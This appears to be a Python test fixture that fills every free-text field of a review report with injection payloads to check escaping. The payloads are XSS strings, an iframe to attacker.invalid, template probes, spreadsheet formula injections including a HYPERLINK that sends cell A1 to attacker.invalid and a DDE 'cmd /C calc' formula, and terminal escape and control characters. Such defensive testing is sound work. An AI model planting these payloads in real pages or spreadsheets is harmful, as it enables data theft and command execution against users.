"""Texts that attack a page, a sheet or a terminal, and a review that has one of them in every field."""

from collections.abc import Callable
from dataclasses import fields, is_dataclass, replace
from typing import Any

from kpi.model.constraint import Suggestion
from kpi.model.disclosure import Disclosure, Failure
from kpi.model.finding import Finding, Review
from kpi.model.rule import Basis, Rule
from tests.reporting import builders

PAYLOADS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    '"><svg onload="document.title=\'owned\'">',
    "' onmouseover='document.title=1",
    "</style><script>document.title='owned'</script>",
    "</script><script>document.title='owned'</script>",
    "javascript:document.title='owned'",
    "<iframe src='http://attacker.invalid/'></iframe><link rel=stylesheet href=//attacker.invalid/a.css>",
    "{{ 7 * 7 }}{% raw %}{# #}",
    '=HYPERLINK("http://attacker.invalid/?"&A1,"看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "#N/A",
    "_x0041__x000D_",
    "\x1b[31m红\x1b]0;题\x07\x9b2J",
    "\u202e倒写\u2066隔离\u200b零宽\ufeff",
    "坏\x00字\x08符\ufffe\ud800",
    "行一\r\n行二\u2028行三",
    '&P&"Arial"&D',
    "<!--<script>",
    "超长" * 20_000,
)


def hostile_review(payload: str) -> Review:
    """Return a review whose every free text is the payload (or holds it, where a text must be short)."""
    base = builders.review()
    documents = tuple(_poisoned(document, payload) for document in base.documents)
    rules = replace(base.ruleset, rules=tuple(_poisoned_rule(rule, payload) for rule in base.ruleset.rules))
    projects = {project.no: project for project in documents[0].projects}
    found = tuple(_poisoned_finding(finding, payload, projects) for finding in base.findings)
    ledger = tuple(entry._replace(reason=payload if entry.reason else None) for entry in base.ledger)
    return replace(
        base, documents=documents, ruleset=rules, findings=found, ledger=ledger, adjusted=(payload,)
    )


_KEPT = {
    "kind", "operator", "form", "frame", "level", "scope", "status", "unit", "label", "sha256", "columns",
    "relation", "grade", "every", "direction",
}  # fmt: skip


def _map(thing: Any, change: Callable[[str], str]) -> Any:
    """Return a copy of a frozen dataclass tree with every free text changed, spans kept inside."""
    if isinstance(thing, str):
        return change(thing)
    if isinstance(thing, tuple) and not hasattr(thing, "_fields"):
        return tuple(_map(item, change) for item in thing)
    if is_dataclass(thing) and not isinstance(thing, type):
        changed = {
            field.name: _map(getattr(thing, field.name), change)
            for field in fields(thing)
            if field.init and field.name not in _KEPT
        }
        return replace(thing, **changed)
    return thing


def _poisoned(document: Disclosure, payload: str) -> Disclosure:
    poisoned: Disclosure = _map(document, lambda _: payload)
    return replace(
        poisoned,
        sha256=document.sha256,
        failure=Failure("CODE", payload, payload) if document.failure else None,
        same_as=None,
    )


def _poisoned_rule(rule: Rule, payload: str) -> Rule:
    return replace(
        rule,
        title=payload,
        why=payload,
        basis=(Basis(payload, payload),),
        false_positives=(payload,),
    )


def _poisoned_finding(finding: Finding, payload: str, projects: dict[int, Any]) -> Finding:
    project = projects[finding.project.no] if finding.project else None
    row = finding.indicator
    poisoned: Finding = _map(replace(finding, project=None, indicator=None), lambda _: payload)
    return replace(
        poisoned,
        rule=finding.rule,
        field=finding.field,
        fingerprint=finding.fingerprint,
        project=project,
        indicator=project.indicators[row.no - 1] if project and row else None,
        span=(0, min(len(payload), 3)),
        quote=payload,
        suggestion=Suggestion(payload, "confirm"),
        doubt=payload,
    )
